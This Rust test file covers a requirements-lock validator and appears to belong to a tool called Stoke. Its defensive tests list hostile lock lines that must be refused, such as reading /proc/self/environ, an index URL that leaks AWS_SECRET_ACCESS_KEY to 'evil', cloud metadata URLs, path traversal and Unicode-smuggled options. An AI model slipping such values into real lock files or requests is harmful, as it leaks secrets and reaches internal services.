#![allow(clippy::unwrap_used)]
use proptest::prelude::*;

use super::*;

const SHA: &str = "4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274";

fn rendered(text: &str) -> String {
    Lock::parse(text, Indexes::Any).unwrap().render()
}

fn refused(text: &str) -> String {
    Lock::parse(text, Indexes::Any).unwrap_err().to_string()
}

#[test]
fn what_uv_locks_is_rendered_as_uv_wrote_it() {
    for lock in [
        include_str!("../../../../sdk/examples/embed/requirements.lock"),
        include_str!("../../../../sdk/examples/render/requirements.lock"),
        include_str!("../../../../cli/src/demo/requirements.lock"),
    ] {
        assert_eq!(rendered(lock), lock);
    }
    let direct = format!(
        "a[b,c-d]==1!2.0rc1.post1+cu12.1 \\\n    --hash=sha256:{SHA}\nx @ https://h.example:8443/a%2Bb/x-1.whl ; os_name == 'posix' \\\n    --hash=sha256:{SHA}\n"
    );
    assert_eq!(rendered(&direct), direct);
}

#[test]
fn comments_blanks_and_line_ends_do_not_make_another_lock() {
    let by_hand = "\u{feff}# von J\u{fc}rgen\r\n\r\nSix == 1.17.0;python_version>='3.8' # why\r\n\tidna === 3.10\n\n--index-url=https://pypi.org/simple";
    let lock = "--index-url https://pypi.org/simple\nSix==1.17.0 ; python_version >= '3.8'\nidna==3.10\n";
    assert_eq!((rendered(by_hand), rendered(lock)), (lock.to_owned(), lock.to_owned()));
    assert_eq!((rendered(""), rendered("# nothing\n-i https://pypi.org/simple\n")), (String::new(), String::new()));
    let fragment = format!("x @ http://h.example/x.whl#sha256={}", SHA.to_uppercase());
    assert_eq!(rendered(&fragment), format!("x @ http://h.example/x.whl \\\n    --hash=sha256:{SHA}\n"));
    let lock = Lock::parse("a==1\nb==2\n", Indexes::Any).unwrap();
    assert_eq!((lock.len(), lock.is_hashed(), lock.is_empty()), (2, false, false));
}

#[test]
fn whatever_makes_uv_read_or_ask_something_else_is_refused_with_its_line() {
    let hash = format!("--hash=sha256:{SHA}");
    for (line, why) in [
        ("-r /proc/self/environ", "is not allowed in a lock"),
        ("-r/proc/self/environ", "is not allowed in a lock"),
        ("-c constraints.txt", "is not allowed in a lock"),
        ("-e .", "is not allowed in a lock"),
        ("--requirement=http://inside/", "is not allowed in a lock"),
        ("--find-links https://pypi.org/simple", "is not allowed in a lock"),
        ("--no-index", "is not allowed in a lock"),
        ("--trusted-host pypi.org", "is not allowed in a lock"),
        ("--no-binary :all:", "is not allowed in a lock"),
        ("--pre", "is not allowed in a lock"),
        ("--index-url http://evil/${AWS_SECRET_ACCESS_KEY}/", "must not contain $"),
        ("--index-url https://user:word@pypi.org/simple", "must not contain @"),
        ("--index-url file:///etc", "must begin with https://"),
        ("--index-url https://pypi.org/simple --find-links x", "is not a URL"),
        ("--index-url https://pypi.org/../x", "must not contain .."),
        ("--index-url", "must begin with https://"),
        ("./wheel.whl", "is not a requirement"),
        ("/etc/passwd", "is not a requirement"),
        ("folder/x.whl", "is not a requirement"),
        ("x.whl", "has no version"),
        ("git+https://h.example/x", "is not one exact version"),
        ("https://h.example/x.whl", "is not a requirement"),
        ("C:\\x.whl", "is not a requirement"),
        ("x @ file:///x.whl", "must begin with https://"),
        ("x @ git+https://h.example/x", "must begin with https://"),
        ("x @ ../x.whl", "must begin with https://"),
        ("x @ https://h.example/x.whl", "needs a --hash"),
        ("x @ https://h.example/x.whl#egg=x", "must be #sha256="),
        ("x @ https://h.example/x.whl#subdirectory=..", "must be #sha256="),
        ("x @ https://a:b@h.example/x.whl", "must not contain @"),
        ("x", "has no version"),
        ("x>=1", "is not one exact version"),
        ("x==1.*", "is not a version"),
        ("x==1,>0", "is not a version"),
        ("x==1.whl", "is not a version"),
        ("x==${HOME}", "is not a version"),
        ("x==1 y==2", "is not a version"),
        ("x[a", "without a closing ]"),
        ("x[-r]==1", "is not an extra"),
        ("x==1 ; import os", "is not a marker"),
        ("x==1 ; os_name == '${HOME}'", "is not a marker"),
        ("x==1 ; os_name == 'a' or", "is not a marker"),
        ("x==1 ;", "is not a marker"),
        ("x==1 --config-settings a=b", "only --hash"),
        ("x==1 --hash=md5:00", "64 hex digits"),
        ("x==1 --hash=sha256:00", "64 hex digits"),
        ("x==1\u{2028}-r y", "which is not allowed in a lock"),
        ("\u{ff0d}r y", "which is not allowed in a lock"),
        ("x\u{ff1d}\u{ff1d}1", "which is not allowed in a lock"),
        ("x==1\u{b}-r y", "control character"),
        ("x==1\r-r y", "control character"),
        ("x==1 # \u{85}-r y", "control character"),
        ("x==1\0", "control character"),
        ("x==1 \\", "without a next line"),
    ] {
        let said = refused(&format!("# first\nsix==1.17.0\n{line}"));
        assert!(said.starts_with("line 3: ") && said.contains(why), "{line:?}: {said}");
    }
    let said = refused(&format!("six==1.17.0 {hash}\nidna==3.10\n"));
    assert!(said.starts_with("line 2: idna has no --hash"), "{said}");
    let said = refused(&format!("idna==3.10\nsix==1.17.0 {hash}\n"));
    assert!(said.starts_with("line 2: idna has no --hash"), "{said}");
    let twice = refused("-i https://a.example/\n-i https://b.example/\n");
    assert!(twice.contains("--extra-index-url"), "{twice}");
    // Continuation lines belong to the line that they continue.
    let said = refused("six \\\n  == \\\n  1 \\\n  -r x\n");
    assert!(said.starts_with("line 1: "), "{said}");
}

#[test]
fn only_the_operators_indexes_are_let_in_and_what_is_below_them() {
    let listed = ["https://pypi.org/simple".to_owned(), "https://download.pytorch.org/whl/".to_owned()];
    let is_in = |url: &str| Lock::parse(&format!("--extra-index-url {url}\na==1\n"), Indexes::Listed(&listed)).is_ok();
    assert!(is_in("https://pypi.org/simple") && is_in("https://pypi.org/simple/"));
    assert!(is_in("https://download.pytorch.org/whl/cu121") && is_in("https://download.pytorch.org/whl"));
    for url in
        ["https://pypi.org", "https://pypi.org/simple2", "https://pypi.org.evil/simple", "http://pypi.org/simple"]
    {
        assert!(!is_in(url), "{url}");
    }
    let error = Lock::parse("a==1\n-i https://evil/\n", Indexes::Listed(&listed)).unwrap_err();
    assert!(error.line == 2 && error.why.contains("STOKE_PACKAGE_INDEXES"), "{error}");
}

#[test]
fn an_operator_lists_plain_addresses() {
    let listed = listed_indexes(" https://pypi.org/simple/ ,,http://here:8080/x").unwrap();
    assert_eq!(listed, ["https://pypi.org/simple", "http://here:8080/x"]);
    assert_eq!(listed_indexes("").unwrap(), [""; 0]);
    for wrong in ["pypi.org", "https://", "https://user:pass@here/", "https://here/$TOKEN", "https://a https://b"] {
        assert!(listed_indexes(wrong).is_err(), "{wrong}");
    }
}

#[test]
fn everything_is_bounded() {
    let many = |count: usize, line: &str| line.repeat(count);
    assert!(refused(&many(LOCK_LINES_MAX + 1, "\n")).contains("lines"));
    assert!(refused(&many(LOCK_BYTES_MAX, "# ")).contains("bytes"));
    assert!(refused(&many(REQUIREMENTS_MAX + 1, "a==1\n")).contains("requirements"));
    assert!(refused(&format!("a==1{}", many(LINE_BYTES_MAX, " "))).contains("longer than"));
    let hashes = many(HASHES_MAX + 1, &format!(" \\\n--hash=sha256:{SHA}"));
    assert!(refused(&format!("a==1{hashes}\n")).contains("hashes"));
    let nested = format!("a==1 ; {}os_name == 'a'{}", many(40, "("), many(40, ")"));
    assert!(refused(&nested).contains("marker"));
    assert!(refused(&format!("a==1 ; {}", many(400, "os_name=='a' or "))).contains("marker"));
    // The length of messages is bounded as well.
    assert!(refused(&format!("-r {}", many(5_000, "x"))).len() < 500);
}

/// Whether a lock may contain this line as uv reads it, judged by its words alone.
fn is_allowed(line: &str) -> bool {
    let line = line.strip_suffix(" \\").unwrap_or(line);
    let is_plain = line.bytes().all(|byte| (b' '..=b'~').contains(&byte)) && !line.contains(['$', '#', '\\', '`']);
    let is_line = if let Some(hash) = line.strip_prefix("    --hash=sha256:") {
        hash.len() == 64 && hash.bytes().all(|byte| byte.is_ascii_hexdigit())
    } else if let Some(url) = line.strip_prefix("--index-url ").or_else(|| line.strip_prefix("--extra-index-url ")) {
        (url.starts_with("https://") || url.starts_with("http://")) && !url.contains([' ', '@'])
    } else {
        let names = line.starts_with(|c: char| c.is_ascii_alphanumeric());
        let pins = line.contains("==") || line.contains(" @ http://") || line.contains(" @ https://");
        names && pins && !line.contains(" -") && !line.contains("file:") && !line.contains("+http")
    };
    is_plain && is_line
}

/// Pieces of locks and of attacks on them, in any order.
fn pieces() -> impl Strategy<Value = String> {
    let hash = format!("--hash=sha256:{SHA}");
    let piece = prop_oneof![
        prop::sample::select(vec![
            "six",
            "==",
            "1.17.0",
            " ",
            "\n",
            " \\\n",
            "\\\n",
            "#",
            " # ",
            ";",
            "@",
            " @ ",
            "[",
            "]",
            "a",
            ",",
            "'",
            "\"",
            "$",
            "${HOME}",
            "-r",
            "-c",
            "-e ",
            "-i ",
            "--index-url ",
            "--extra-index-url=",
            "--find-links ",
            "--no-index",
            "https://h.example/x.whl",
            "http://",
            "file:///etc/passwd",
            "git+https://h.example/x",
            "/proc/self/environ",
            "../",
            "python_version",
            "os_name",
            " == ",
            " and ",
            " or ",
            "(",
            ")",
            "not in",
            "\r\n",
            "\r",
            "\t",
            "\u{b}",
            "\u{2028}",
            "\u{ff0d}",
            "\0",
            "#sha256=",
            "six==1.17.0\n",
            "idna==3.10 ; python_version < '3.9'",
        ])
        .prop_map(str::to_owned),
        Just(hash),
        "[ -~]{0,6}",
        "\\PC{0,4}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4_000, ..ProptestConfig::default() })]

    #[test]
    fn what_is_rendered_holds_no_option_but_hashes_and_indexes(text in pieces()) {
        if let Ok(lock) = Lock::parse(&text, Indexes::Any) {
            let rendered = lock.render();
            for line in rendered.lines() {
                prop_assert!(is_allowed(line), "{line:?} of {text:?}");
            }
            let again = Lock::parse(&rendered, Indexes::Any);
            prop_assert_eq!(again.map(|lock| lock.render()), Ok(rendered));
        }
    }

    #[test]
    fn no_lock_with_its_pieces_put_together_is_lost(
        names in prop::collection::vec("[a-z][a-z0-9]{0,8}", 1..6),
        version in "[0-9]{1,3}(\\.[0-9]{1,3}){0,3}((a|b|rc|\\.post|\\.dev)[0-9])?(\\+cu[0-9]{3})?",
    ) {
        let lock: String = names.iter().map(|name| format!("{name}=={version} \\\n    --hash=sha256:{SHA}\n")).collect();
        prop_assert_eq!(Lock::parse(&lock, Indexes::Listed(&[])).map(|lock| lock.render()), Ok(lock));
    }
}

/// A worker contacts only the servers that the operator allows, even if a tenant has the hash of a file on another one.
#[test]
fn a_file_is_fetched_from_below_what_the_operator_lets_in() {
    let listed = ["https://h.example/whl".to_owned(), "http://10.0.0.1:8080".to_owned()];
    let read = |url: &str| Lock::parse(&format!("x @ {url} --hash=sha256:{SHA}\n"), Indexes::Listed(&listed));
    for url in ["https://h.example/whl/x.whl", "https://h.example/whl/a%2Bb/x.whl", "http://10.0.0.1:8080/x.whl"] {
        assert!(read(url).is_ok(), "{url}");
    }
    for (url, why) in [
        ("http://169.254.169.254/latest/meta-data", "package_indexes"),
        ("https://h.example/other/x.whl", "package_indexes"),
        ("https://h.example/whlx/x.whl", "package_indexes"),
        ("http://h.example/whl/x.whl", "package_indexes"),
        ("https://h.example.evil.example/whl/x.whl", "package_indexes"),
        ("https://h.example:8443/whl/x.whl", "package_indexes"),
        ("HTTPS://h.example/whl/x.whl", "must begin with https://"),
        ("https://h.example/whl/../other/x.whl", "must not contain .."),
        ("https://h.example/whl/%2e%2E/other/x.whl", "must not contain .."),
        ("https://h.example/whl/.%2e/other/x.whl", "must not contain .."),
        ("http://10.0.0.1:80801/x.whl", "package_indexes"),
    ] {
        let said = read(url).unwrap_err().to_string();
        assert!(said.starts_with("line 1: ") && said.contains(why), "{url}: {said}");
    }
    assert!(Lock::parse(&format!("x @ http://127.0.0.1/x.whl --hash=sha256:{SHA}\n"), Indexes::Any).is_ok());
}
